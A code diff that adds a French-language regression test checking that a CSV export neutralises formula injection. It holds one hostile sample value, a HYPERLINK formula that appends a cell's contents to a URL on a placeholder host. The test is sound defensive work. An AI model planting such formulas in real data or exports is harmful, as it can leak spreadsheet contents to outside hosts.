@@ -137,3 +137,13 @@ def test_page_accessible_sans_donnee(client, db):
     reponse = _get(client, national)
     assert reponse.status_code == 200
     assert "Aucune demande reçue" in reponse.content.decode()
+
+
+def test_export_csv_un_nom_en_formule_reste_du_texte(client, jeu):
+    piege = '=HYPERLINK("https://exemple.invalid/?v="&A1;"Cliquez")'
+    jeu.caf.nom = piege
+    jeu.caf.save()
+    reponse = _get(client, _personne(role=Role.NATIONAL), EXPORT)
+    lignes = list(csv.reader(io.StringIO(reponse.content.decode("utf-8-sig")), delimiter=";"))
+    operateurs = {ligne[2] for ligne in lignes[1:]}
+    assert "'" + piege in operateurs and piege not in operateurs
